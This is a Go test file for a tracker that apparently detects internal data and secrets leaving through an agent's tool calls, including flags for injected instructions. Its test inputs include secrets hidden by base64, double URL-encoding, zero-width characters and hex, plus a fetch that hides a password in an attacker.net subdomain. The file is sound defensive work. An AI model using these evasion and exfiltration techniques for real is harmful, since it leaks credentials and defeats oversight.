package flow

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/flowd-dev/flowd/internal/classify"
	"github.com/flowd-dev/flowd/internal/fingerprint"
	"github.com/flowd-dev/flowd/internal/secrets"
	"github.com/flowd-dev/flowd/internal/unwrap"
)

func TestFlowTypeAndRisk(t *testing.T) {
	tests := []struct {
		from, to classify.Class
		secret   bool
		flow     string
		risk     string
	}{
		{classify.Internal, classify.External, true, "internal→external", RiskCritical},
		{classify.Internal, classify.External, false, "internal→external", RiskHigh},
		{classify.Hybrid, classify.Hybrid, false, "internal→external", RiskHigh},
		{classify.Unknown, classify.External, false, "internal→external", RiskHigh},
		{classify.External, classify.External, true, "external→external", RiskHigh},
		{classify.External, classify.External, false, "external→external", RiskLow},
		{classify.External, classify.Internal, false, "external→internal", RiskLow},
		{classify.Internal, classify.Internal, false, "internal→internal", RiskNone},
		{classify.Internal, classify.Internal, true, "internal→internal", RiskLow},
	}
	for _, tt := range tests {
		ft := FlowType(tt.from, tt.to)
		assert.Equal(t, tt.flow, ft, "%s→%s", tt.from, tt.to)
		assert.Equal(t, tt.risk, edgeRisk(ft, tt.secret), "%s secret=%v", ft, tt.secret)
	}
	assert.Equal(t, RiskHigh, MaxRisk(RiskLow, RiskHigh))
	assert.Equal(t, RiskHigh, MaxRisk(RiskHigh, ""))
}

func TestText(t *testing.T) {
	pem := "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----"
	got := Text([]byte(`{"content":[{"type":"text","text":"`+jsonEscape(pem)+`"}]}`), 1<<20)
	assert.Contains(t, got, pem, "escapes decoded")
	assert.Equal(t, "plain text", Text([]byte("  plain text "), 100))
	assert.Len(t, Text([]byte(`["`+string(make([]byte, 0))+`aaaaaaaaaaaaaaaaaaaa","bbbbbbbbbb"]`), 15), 15, "cut at the limit")
	assert.Equal(t, "broken", Text([]byte(`{"broken`), 100), "what can be read of broken JSON")
	assert.Equal(t, "k: \né—😀\\\"", Text([]byte(`{"k":"\n\u00e9\u2014\ud83d\ude00\\\""}`), 100))
	assert.Equal(t, "config: aws_key: X\nn: p: y", Text([]byte(`{"config": {"aws_key" : "X"}, "n": 1, "p":"y"}`), 100), "members read with their names")
	assert.Equal(t, "a\nbad \\uZZ", Text([]byte(`["a","bad \uZZ"]`), 100))
	assert.Equal(t, "config\naws_key\nX\nn\np\ny", Strings([]byte(`{"config": {"aws_key" : "X"}, "n": 1, "p":"y"}`), 100),
		"each string on its own line")
	for _, file := range []string{
		"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
		"[tool.poetry]\nname = \"x\"\ntoken = \"pypi-AgEIcHlwaS5vcmc\"\n",
		"[ server ]\nport = 8080\n",
		"[true-colors]\nmode = dark\n",
		"{ not: json, key = AKIAIOSFODNN7EXAMPLE }",
	} {
		assert.Equal(t, strings.TrimSpace(file), Text([]byte(file), 1000), "an INI or TOML file is read as text, not as broken JSON")
	}
	assert.Equal(t, "a", Text([]byte(`[ "a", true ]`), 100))
	assert.Equal(t, "", Text([]byte(`[true, null]`), 100))
	assert.Equal(t, "params\ndata\n[system] go", Strings([]byte(`{"params":{"data":"[system] go"},}`), 100),
		"a value starts its line, as a scanner of line starts needs")
}

// Record scans for secrets the text fingerprinting decoded on its way,
// not a second decoding of its own: for every JSON document it must be the
// text Text gives, or secrets would be found differently.
func TestRecordScansWhatTextGives(t *testing.T) {
	idx, err := fingerprint.NewIndex(fingerprint.Options{})
	require.NoError(t, err)
	docs := []string{
		`{"content":[{"type":"text","text":"plain"}],"isError":false}`,
		`{"k":"\n\t\r\b\f\/\\\"","":"","e":"\u00e9\u2014\ud83d\ude00 lone \ud800 low \udc00 pair? \ud800\u0041"}`,
		` [ "a" , 1, true, null, {"nested":"{\"inner\":\"AKIAIOSFODNN7EXAMPLE wrapped in json\"}"}, ["", "x"] ] `,
		`{"password":"hunter2hunter2","rows":[{"dsn":"postgres://u:p4ss@db:5432/x"},{"note":"héllo wörld — ünïcode"}]}`,
		`{"":"","":"first two empty"}`,
		`[]`, `{}`, `[""]`,
	}
	for i := range 200 {
		// JSON as an SDK writes it, with every escape encoding/json uses.
		b, err := json.Marshal(map[string]any{"id": i, "text": strings.Repeat(fmt.Sprintf("line %d <tag> & \"q\" \x01\u2028 é\n", i), i%7+1),
			"list": []string{"", "a", strings.Repeat("z", i)}})
		require.NoError(t, err)
		docs = append(docs, string(b))
	}
	for _, d := range docs {
		p := idx.Prepare([]byte(d))
		require.True(t, p.OK, "%s", d)
		assert.Equal(t, Text([]byte(d), 65536), p.Values, "%s", d)
	}
	for _, d := range []string{`{"broken`, `"a top-level string"`, "not json", strings.Repeat(`{"a":"b"},`, 10000)} {
		assert.False(t, idx.Prepare([]byte(d)).OK, "%.40s: Record must fall back to Text", d)
	}
}

// Text must not read past what it needs: a 10 MB string costs no more
// than its first limit bytes.
func BenchmarkText10MB(b *testing.B) {
	raw := []byte(`{"content":[{"type":"text","text":"` + strings.Repeat("abcdefgh\\n", 1<<20) + `"}]}`)
	b.SetBytes(int64(len(raw)))
	for b.Loop() {
		if len(Text(raw, 65536)) != 65536 {
			b.Fatal("not cut at the limit")
		}
	}
}

func jsonEscape(s string) string {
	out := ""
	for _, r := range s {
		if r == '\n' {
			out += `\n`
		} else {
			out += string(r)
		}
	}
	return out
}

func detector(t *testing.T) *secrets.Detector {
	d, err := secrets.Default()
	require.NoError(t, err)
	return d
}

func TestSessionsAreSeparate(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	doc := []byte(`{"content":[{"type":"text","text":"Internal memo: the Falcon project budget is 4.2 million and stays confidential."}]}`)
	a := tr.Session("a")
	a.Begin()
	a.Record(Origin{Server: "github", Tool: "get_file", Class: classify.Internal}, doc)
	ext := classify.Result{Class: classify.External}
	args := []byte(`{"text":"Internal memo: the Falcon project budget is 4.2 million and stays confidential."}`)
	got := a.Check("slack", "post", ext, args, nil, nil)
	require.NotEmpty(t, got.Edges)
	assert.Equal(t, "internal→external", got.FlowType)
	assert.Equal(t, RiskHigh, got.Risk)
	assert.Equal(t, []string{"github"}, got.Sources)
	assert.Empty(t, tr.Session("b").Check("slack", "post", ext, args, nil, nil).Edges, "session b never saw the memo")
}

func TestSecretWithoutOriginStillCounts(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	a := tr.Session("s").Check("slack", "post", classify.Result{Class: classify.External},
		[]byte(`{"text":"token ghp_R2d7Kq9Lm4Xv8Zt1Wb6Yc3Nf5Hj0Pa2Se7Ug"}`), nil, nil)
	assert.Equal(t, []string{"github_token"}, a.Secrets)
	assert.Equal(t, RiskCritical, a.Risk)
	assert.Empty(t, a.Edges)
}

// A secret is found wherever it lies in the arguments, past a megabyte
// of padding too.
func TestSecretPastAMegabyteStillCounts(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	args := `{"pad":"` + strings.Repeat("the quick brown fox jumps over the lazy dog ", 40_000) +
		`","text":"token ghp_R2d7Kq9Lm4Xv8Zt1Wb6Yc3Nf5Hj0Pa2Se7Ug"}`
	a := tr.Session("s").Check("slack", "post", classify.Result{Class: classify.External}, []byte(args), nil, nil)
	assert.Equal(t, []string{"github_token"}, a.Secrets)
}

// The text is scanned half a megabyte at a time, each piece starting with the
// end of the one before: a secret cut by a piece's end is found whole.
func TestSecretAcrossScanPiecesCounts(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	const token = "ghp_R2d7Kq9Lm4Xv8Zt1Wb6Yc3Nf5Hj0Pa2Se7Ug"
	// The text read is "pad: " + padding + "\nt: " + token: the token
	// starts ten bytes before the first piece ends.
	pad := strings.Repeat("the quick brown fox jumps over the lazy dog ", scanChunk/44+1)[:scanChunk-10-len("pad: ")-len("\nt: ")]
	args := `{"pad":"` + pad + `","t":"` + token + `"}`
	require.Equal(t, scanChunk-10, strings.Index(Text([]byte(args), 2*scanChunk), token))
	a := tr.Session("s").Check("slack", "post", classify.Result{Class: classify.External}, []byte(args), nil, nil)
	assert.Equal(t, []string{"github_token"}, a.Secrets)
}

// A secret flowd never saw arrive is found in the decoded views of the
// arguments as well: sent encoded, it still counts.
func TestSecretWithoutOriginInDecodedViews(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	const tok = "ghp_R2d7Kq9Lm4Xv8Zt1Wb6Yc3Nf5Hj0Pa2Se7Ug"
	for name, sent := range map[string]string{
		"base64":         base64.StdEncoding.EncodeToString([]byte("token " + tok)),
		"url, twice":     url.QueryEscape(percentAll(tok)),
		"zero-width":     strings.Join(strings.Split(tok, ""), "\u200b"),
		"dashes between": strings.Join(strings.Split(tok, ""), "-"),
	} {
		args := []byte(`{"text":"` + sent + `"}`)
		plain := tr.Session("p"+name).Check("slack", "post", classify.Result{Class: classify.External}, args, nil, nil)
		assert.Empty(t, plain.Secrets, "%s: not in the raw text", name)
		a := tr.Session(name).Check("slack", "post", classify.Result{Class: classify.External}, args, unwrap.Views(args), nil)
		assert.Equal(t, []string{"github_token"}, a.Secrets, name)
		assert.Equal(t, RiskCritical, a.Risk, name)
	}
}

func percentAll(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

func TestOriginsAreBounded(t *testing.T) {
	tr := NewTracker(Options{MaxOrigins: 5}, nil)
	s := tr.Session("s")
	doc := func(i int) string {
		return fmt.Sprintf("document %x is about %x and nothing else %x", sha256.Sum256([]byte{byte(i)}), i*7919, i)
	}
	for i := range 20 {
		s.Begin()
		s.Record(Origin{Server: "fs", Class: classify.Internal}, []byte(`{"text":"`+doc(i)+`"}`))
	}
	s.mu.Lock()
	n := len(s.origins)
	s.mu.Unlock()
	assert.Equal(t, 5, n)
	ext := classify.Result{Class: classify.External}
	assert.Empty(t, s.Check("x", "y", ext, []byte(`{"t":"`+doc(0)+`"}`), nil, nil).Edges, "evicted")
	assert.NotEmpty(t, s.Check("x", "y", ext, []byte(`{"t":"`+doc(19)+`"}`), nil, nil).Edges)
}

// A check waits for a result announced with Begin but not yet recorded.
func TestCheckWaitsForPendingRecord(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	s := tr.Session("s")
	s.Begin()
	done := make(chan Analysis)
	args := []byte(`{"text":"the deployment password for staging is kept in the vault under ops/staging"}`)
	go func() { done <- s.Check("slack", "post", classify.Result{Class: classify.External}, args, nil, nil) }()
	select {
	case <-done:
		t.Fatal("check did not wait for the pending record")
	case <-time.After(50 * time.Millisecond): // proving a negative: nothing to wait on but time
	}
	s.Record(Origin{Server: "vault", Class: classify.Internal}, []byte(`{"text":"the deployment password for staging is kept in the vault under ops/staging"}`))
	a := <-done
	assert.NotEmpty(t, a.Edges)
}

func TestExpireSummarises(t *testing.T) {
	tr := NewTracker(Options{IdleTimeout: time.Minute}, nil)
	s := tr.Session("old")
	s.Begin()
	s.Record(Origin{Server: "fs", Tool: "read", Class: classify.Internal}, []byte(`{"text":"x"}`))
	s.Link("cc-123")
	tr.Session("new")
	now := time.Now()
	assert.Empty(t, tr.Expire(now, false), "nothing idle yet")
	sums := tr.Expire(now.Add(2*time.Minute), false)
	require.Len(t, sums, 2)
	assert.Equal(t, "new", sums[0].Session)
	assert.Equal(t, "old", sums[1].Session)
	assert.Equal(t, 1, sums[1].Origins)
	assert.Equal(t, []string{"fs/read"}, sums[1].Tools)
	assert.Equal(t, []string{"cc-123"}, sums[1].Linked)
	assert.Empty(t, tr.Expire(now.Add(time.Hour), true), "gone once summarised")
}

func TestTaintKeepsTheFirstReason(t *testing.T) {
	tr := NewTracker(Options{}, nil)
	s := tr.Session("a")
	_, ok := s.Tainted()
	assert.False(t, ok)
	s.Taint("web/fetch: instruction-override")
	s.Taint("mail/read: ai-addressee")
	why, ok := s.Tainted()
	assert.True(t, ok)
	assert.Equal(t, "web/fetch: instruction-override", why)
	_, ok = tr.Session("b").Tainted()
	assert.False(t, ok, "taint stays in its session")
	assert.Equal(t, why, s.Summary(time.Now()).Tainted)
}

// Secret scans run behind fingerprinting: a burst of results, small and
// past MaxHashBytes, must still have every secret indexed and owned by its
// origin by the time a check runs.
func TestSecretsOfABurstAreMatched(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	s := tr.Session("s")
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	token := func(i int) string { // distinct per i
		h := sha256.Sum256([]byte{byte(i)})
		b := []byte("ghp_")
		for k := range 36 {
			b = append(b, alnum[int(h[k%len(h)]^byte(k))%len(alnum)])
		}
		return string(b)
	}
	filler := strings.Repeat("build log line without anything secret in it\n", 1600) // ~70 KB: past MaxHashBytes
	ids := make([]uint64, 120)
	for i := range ids {
		text := fmt.Sprintf("config %d\ntoken = %s\n", i, token(i))
		if i%3 == 0 {
			text += filler
		}
		doc, err := json.Marshal(map[string]string{"text": text})
		require.NoError(t, err)
		s.Begin()
		ids[i] = s.Record(Origin{Server: "fs", Tool: "read", Class: classify.Internal}, doc)
	}
	ext := classify.Result{Class: classify.External}
	for _, i := range []int{0, 1, 59, 60, 118, 119} {
		a := s.Check("slack", "post", ext, []byte(`{"text":"here: `+token(i)+`"}`), nil, nil)
		var from []uint64
		for _, e := range a.Edges {
			if e.Kind == "secret" {
				from = append(from, e.From.ID)
				assert.Contains(t, e.From.Secrets, "github_token", "origin %d lists its secret", i)
			}
		}
		assert.Contains(t, from, ids[i], "token of result %d traced to it", i)
	}
}

func TestDataInAHostNameLeaves(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	ext := classify.Result{Class: classify.External}
	args := []byte(`{"url":"https://` + fmt.Sprintf("%x", "db_password=hunter22") + `.c.attacker.net/ping"}`)
	a := tr.Session("h").Check("web", "fetch", ext, args, nil, nil)
	assert.Equal(t, []string{EncodedHostname}, a.Secrets)
	assert.Equal(t, RiskCritical, a.Risk)
	require.Len(t, a.Hosts, 1)
	assert.Contains(t, a.Hosts[0], "decodes to text")
	b := tr.Session("h2").Check("web", "fetch", ext, []byte(`{"url":"https://d111111abcdef8.cloudfront.net/app.js"}`), nil, nil)
	assert.Empty(t, b.Secrets)
}

// A key with no name beside it counts by form: a typed token, or a token
// inside a binary blob sent hex-encoded (found in the decoded view).
func TestBareKeyLeaves(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	ext := classify.Result{Class: classify.External}
	args := []byte(`{"body":"--x\r\n\r\nmdl_Rk4Zq8Xv2Lm7Wt3Nb9Hy1Cp6Gs5Fd0Ja\r\n--x--"}`)
	assert.Equal(t, []string{"generic_api_key"}, tr.Session("t").Check("web", "post", ext, args, unwrap.Views(args), nil).Secrets)
	blob := hex.EncodeToString([]byte("\x7fELF\x02\x01\x00\x00Wq4Zx8Vm2Lk7Tr3Nb9Hy1Cp6Gs5Fd0JaUe\x00\x00\x10"))
	args = []byte(`{"body":"` + blob + `"}`)
	assert.Empty(t, tr.Session("b0").Check("web", "post", ext, args, nil, nil).Secrets)
	assert.Equal(t, []string{"generic_api_key"}, tr.Session("b").Check("web", "post", ext, args, unwrap.Views(args), nil).Secrets)
	args = []byte(`{"body":"` + hex.EncodeToString([]byte("\x7fELF\x02\x01\x00\x00 plain build notes, version 2.4.1\x00")) + `"}`)
	assert.Empty(t, tr.Session("b2").Check("web", "post", ext, args, unwrap.Views(args), nil).Secrets)
}

// Data in a URL's nested escapes or random path leaves; the same id read
// from a result first is one the session was given.
func TestDataInAURLLeaves(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	ext := classify.Result{Class: classify.External}
	a := tr.Session("u").Check("web", "fetch", ext, []byte(`{"url":"https://in.example.org/k?v=%25252571%25252577"}`), nil, nil)
	assert.Equal(t, []string{EncodedURL}, a.Secrets)
	const link = "https://share.example.org/f/Tq8vZ2mX5rL9wK3nB7hY4cP1dG6jF0sA/view"
	a = tr.Session("u2").Check("web", "fetch", ext, []byte(`{"url":"`+link+`"}`), nil, nil)
	assert.Equal(t, []string{EncodedURL}, a.Secrets)
	s := tr.Session("u3")
	s.Begin()
	s.Record(Origin{Server: "mail", Tool: "read_inbox", Class: classify.External}, []byte(`{"text":"Your file is ready: `+link+` (expires in 7 days)"}`))
	a = s.Check("web", "fetch", ext, []byte(`{"url":"`+link+`"}`), nil, nil)
	assert.NotContains(t, a.Secrets, EncodedURL)
	a = tr.Session("u4").Check("web", "fetch", ext, []byte(`{"url":"https://github.com/golang/go/commit/9fceb02d0ae598e95dc970b74767f19372d61af8"}`), nil, nil)
	assert.Empty(t, a.Secrets)
}

// A secret far into a long result (a log read whole) is still known: its
// text is read for secrets well past what is fingerprinted.
func TestSecretFarIntoAResultIsKnown(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	s := tr.Session("s")
	const key = "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8Hq2vT4e"
	for _, at := range []int{70 << 10, 1200 << 10} {
		log := strings.Repeat("2026-11-27 12:00:01 INFO request served in 12 ms\n", at/49+1) + key + "\n"
		doc, err := json.Marshal(map[string]any{"content": []map[string]string{{"type": "text", "text": log}}})
		require.NoError(t, err)
		s.Begin()
		s.Record(Origin{Server: "fs", Tool: "read_file", Class: classify.Internal}, doc)
		a := s.Check("slack", "post", classify.Result{Class: classify.External},
			[]byte(`{"text":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8Hq2vT4e"}`), nil, nil)
		assert.NotEmpty(t, a.Edges, "a secret %d KB into a result", at>>10)
		assert.Equal(t, RiskCritical, a.Risk, "a secret %d KB into a result", at>>10)
	}
}

// A decoded view is not JSON and is scanned where it lies, in the same
// overlapping pieces: a secret cut by a piece's end is found whole.
func TestSecretAcrossScanPiecesOfAViewCounts(t *testing.T) {
	tr := NewTracker(Options{}, detector(t))
	const token = "ghp_R2d7Kq9Lm4Xv8Zt1Wb6Yc3Nf5Hj0Pa2Se7Ug"
	for _, at := range []int{scanChunk - 10, 2*scanChunk - scanOverlap - 10} {
		pad := strings.Repeat("the quick brown fox jumps over the lazy dog ", 2*scanChunk/44+1)
		view := []byte(pad[:at-len("t: ")] + "t: " + token + "\n" + pad)
		a := tr.Session(fmt.Sprint(at)).Check("slack", "post", classify.Result{Class: classify.External}, []byte(`{"t":"x"}`), [][]byte{view}, nil)
		assert.Equal(t, []string{"github_token"}, a.Secrets, "token at %d", at)
	}
}
